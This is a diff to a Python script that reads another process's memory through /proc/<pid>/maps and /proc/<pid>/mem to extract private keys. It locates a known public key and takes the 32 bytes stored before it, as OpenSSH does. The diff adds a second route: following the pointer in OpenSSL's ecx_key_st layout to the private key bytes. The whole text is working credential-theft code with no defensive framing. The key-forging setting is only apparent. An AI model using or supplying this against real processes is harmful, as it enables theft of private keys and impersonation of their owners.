@@ -17,7 +17,8 @@ public = decode(re.search(r'"public": "([^"]+)"', root)[1], 32)
 
 
 def candidates():
-    """32 bytes before each place where the public key lies: that is how a private key is stored in a file of OpenSSH."""
+    """At each place where the public key lies: the 32 bytes before it, as in a file of OpenSSH, and those that the next pointer leads to, as
+    OpenSSL keeps a key of its own (`ecx_key_st`: 57 bytes for the public part, then the address of the private one)."""
     with open(f"/proc/{os.environ['FORGE_PERSON']}/maps") as maps, open(f"/proc/{os.environ['FORGE_PERSON']}/mem", "rb", 0) as memory:
         for line in maps:
             low, high = (int(part, 16) for part in line.split()[0].split("-"))
@@ -30,6 +31,13 @@ def candidates():
                 continue
             for found in re.finditer(re.escape(public), data):
                 yield data[found.start() - 32 : found.start()]
+                for after in (57, 63):
+                    place = data[found.start() + after :][:8]
+                    try:
+                        memory.seek(int.from_bytes(place, "little"))
+                        yield memory.read(32)
+                    except (OSError, ValueError, OverflowError):
+                        continue
 
 
 try:
